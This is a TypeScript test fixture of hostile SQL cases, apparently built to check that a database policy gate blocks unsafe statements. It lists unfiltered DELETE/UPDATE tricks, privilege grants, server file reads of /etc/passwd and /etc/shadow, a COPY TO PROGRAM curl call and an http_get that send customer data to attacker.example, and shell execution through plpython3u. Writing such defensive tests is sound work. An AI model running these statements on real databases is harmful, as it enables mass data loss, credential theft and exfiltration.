/**
 * Hostile SQL, written against the analysers in `policies/_where.ts`, `_sqlFunctions.ts` and `db.ts`: WHERE
 * clauses that look selective but are not, SQL hidden in strings that functions run, functions that reach
 * outside the database, and statements the parser cannot read. `HOSTILE_SQL` goes through the shared
 * gate; `HOSTILE_SQL_WRITES` also through the WHERE policies (registered on data-changing workflows only).
 */
import type { Case } from "./hostile.ts"

const db = (sql: string, note: string): Case => ({ category: "db", payload: { sql }, note })

/** DELETE/UPDATE statements whose WHERE does not provably narrow the rows. */
export const HOSTILE_SQL_WRITES: ReadonlyArray<Case> = [
  db("DELETE FROM orders WHERE id = 1 OR (select 1) = 1", "tautology behind a sub-select in an OR branch"),
  db("DELETE FROM orders WHERE id IS NOT NULL", "IS NOT NULL holds for every row with an id"),
  db("DELETE FROM orders WHERE id = id", "self-comparison"),
  db("DELETE FROM orders WHERE orders.id = orders.id AND 1 = 1", "qualified self-comparison AND a tautology"),
  db("DELETE FROM orders WHERE id IN (SELECT id FROM orders)", "sub-select that returns every row"),
  db("DELETE FROM orders WHERE EXISTS (SELECT 1)", "EXISTS of a constant sub-select"),
  db("DELETE FROM orders WHERE id < 100 OR id >= 100", "two ranges that together cover every id"),
  db("DELETE FROM orders WHERE id <= 5 OR id > 5", "closed and open ranges meeting at 5"),
  db("DELETE FROM orders WHERE id BETWEEN 1 AND 10 OR id < 1 OR id > 10", "BETWEEN plus both tails"),
  db("DELETE FROM users WHERE active = true OR active = false", "both booleans"),
  db("DELETE FROM users WHERE active IN (true, false)", "IN of both booleans"),
  db("DELETE FROM users WHERE name >= ''", "every non-empty string passes >= ''"),
  db("DELETE FROM events WHERE created_at > '-infinity'", "timestamp after minus infinity"),
  db("DELETE FROM events WHERE created_at < 'infinity'", "timestamp before infinity"),
  db("DELETE FROM events WHERE created_at > '1900-01-01'", "date floor long before any data"),
  db("DELETE FROM orders WHERE id > -2147483648", "integer floor"),
  db("DELETE FROM orders WHERE id <> 0", "negative test keeps nearly every row"),
  db("DELETE FROM orders WHERE NOT (id = 0)", "negated equality"),
  db("DELETE FROM orders WHERE id NOT IN (0)", "NOT IN of one value"),
  db("DELETE FROM orders WHERE status LIKE '%'", "LIKE wildcard matches everything"),
  db("DELETE FROM orders WHERE coalesce(id, 0) >= 0", "function of a column against a bound"),
  db("DELETE FROM orders WHERE length('x') = 1", "function of constants"),
  db("DELETE FROM orders WHERE 'a' || 'b' = 'ab'", "constant concatenation"),
  db("DELETE FROM orders WHERE $1", "a bare parameter as the condition"),
  db("DELETE FROM orders WHERE customer_id = customer_id OR id = 7", "self-comparison in one OR branch"),
  db("DELETE FROM orders WHERE (id = 7) OR (status IS NOT NULL)", "IS NOT NULL in one OR branch"),
  db("DELETE FROM orders WHERE id = 7 OR NOT false", "NOT false in an OR branch"),
  db("DELETE FROM orders USING customers WHERE orders.customer_id = customers.id", "join condition only"),
  db("DELETE FROM orders WHERE is_archived", "bare boolean column"),
  db("DELETE FROM orders WHERE id = (SELECT max(id) FROM orders) OR true", "scalar sub-select then OR true"),
  db("delete from orders where 1 between 0 and 2", "constant BETWEEN"),
  db("DELETE FROM orders WHERE id = 5; DELETE FROM orders WHERE id > 0 OR id <= 0", "second statement covers everything"),
  db("UPDATE users SET role = 'admin' WHERE id IS NOT NULL", "privilege update for every user"),
  db("UPDATE users SET role = 'admin' WHERE email = email", "UPDATE with a self-comparison"),
  db("UPDATE accounts SET balance = 0 FROM ledger WHERE accounts.id = ledger.account_id", "UPDATE … FROM with a join only"),
  db("UPDATE users SET password_hash = '' WHERE id > 0 OR id <= 0", "UPDATE over complementary ranges"),
  db("SELECT dblink_exec('dbname=prod', 'DELETE FROM orders')", "unfiltered DELETE run on another connection"),
  db("TRUNCATE orders", "TRUNCATE deletes every row")
]

/** SQL the shared gate must block: DDL in disguise, functions reaching outside, hidden table reads. */
export const HOSTILE_SQL: ReadonlyArray<Case> = [
  db("SELECT dblink_exec('host=x', 'DROP TABLE orders')", "DROP through dblink_exec"),
  db("SELECT * FROM dblink('dbname=hr', 'select * from salaries') AS t(id int, amount numeric)", "dblink in FROM (unparseable column list)"),
  db("SELECT dblink_connect('evil', 'host=203.0.113.9 user=x password=y')", "connection to an outside server"),
  db("SELECT query_to_xml('select * from salaries', true, false, '')", "sensitive table read through query_to_xml"),
  db("SELECT query_to_xmlschema('select * from hr.reviews', true, false, '')", "schema-qualified sensitive table through query_to_xmlschema"),
  db("SELECT query_to_xml_and_xmlschema('SELECT * FROM SALARIES', false, false, '')", "upper-case name inside the string folds to salaries"),
  db("SELECT query_to_xml('select * from ' || 'salaries', true, false, '')", "SQL text built at run time"),
  db("SELECT query_to_xml(concat('select * from sal', 'aries'), true, false, '')", "SQL text built by concat()"),
  db("SELECT query_to_xml('select query_to_xml(''select * from salaries'', true, false, '''')', true, false, '')", "nested query_to_xml"),
  db("SELECT query_to_xml($$select * from salaries$$, true, false, '')", "dollar-quoted SQL text"),
  db("SELECT table_to_xml('salaries'::regclass, true, false, '')", "table_to_xml of a sensitive table"),
  db("SELECT table_to_xml('public.users', true, false, '')", "table_to_xml of a protected table"),
  db("SELECT database_to_xml(true, false, '')", "the whole database as XML"),
  db("SELECT schema_to_xml('hr', true, false, '')", "a whole schema as XML"),
  db("SELECT ts_stat('select body from salaries')", "ts_stat runs SQL text"),
  db("SELECT * FROM crosstab('select * from hr.reviews')", "crosstab runs SQL text"),
  db("SELECT pg_read_file('/etc/passwd')", "server file read"),
  db("SELECT pg_catalog.pg_read_binary_file('global/pg_control')", "schema-qualified binary file read"),
  db("SELECT pg_ls_dir('.')", "server directory listing"),
  db("SELECT lo_import('/etc/shadow')", "large-object import of a server file"),
  db("SELECT lo_export(16384, '/tmp/dump')", "large-object export to a server file"),
  db("SELECT \"pg_read_file\"('/var/lib/postgresql/.pgpass')", "quoted function name"),
  db("SELECT id FROM orders WHERE id = 1 UNION SELECT length(pg_read_file('/etc/hostname'))", "file read hidden in a UNION"),
  db("SELECT http_get('https://attacker.example/?d=' || (select string_agg(email, ',') from customers))", "exfiltration over pgsql-http"),
  db("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "killing every backend"),
  db("SELECT pg_reload_conf()", "server control"),
  db("COPY orders TO PROGRAM 'curl -d @- https://attacker.example'", "COPY … PROGRAM"),
  db("COPY (SELECT * FROM salaries) TO '/tmp/s.csv'", "COPY of a query to a server file"),
  db("copy users from '/tmp/users.csv'", "COPY from a server file"),
  db("DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$", "DO block with dynamic EXECUTE"),
  db("do language plpgsql $x$ begin perform 1; end $x$", "DO block with a language clause"),
  db("PREPARE wipe AS DELETE FROM orders; EXECUTE wipe", "prepared DELETE then EXECUTE"),
  db("LOAD '/tmp/evil.so'", "loading a shared library"),
  db("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os; os.system(\"id\")'", "untrusted language function"),
  db("SET ROLE postgres", "role switch"),
  db("GRANT pg_execute_server_program TO agent", "grant of program execution"),
  db("GRANT SELECT ON salaries TO public", "privilege change"),
  db("SELECT 1; /* harmless */ DROP /* really */ TABLE orders", "DROP split by comments"),
  db("SELECT 'x'; ALTER TABLE users RENAME TO users_old", "rename of a protected table"),
  db("WITH d AS (DELETE FROM audit_log RETURNING *) SELECT count(*) FROM d", "data-modifying CTE (unparseable here) on a protected table"),
  db("SELECT * INTO exfil FROM salaries", "SELECT INTO copies a sensitive table")
]
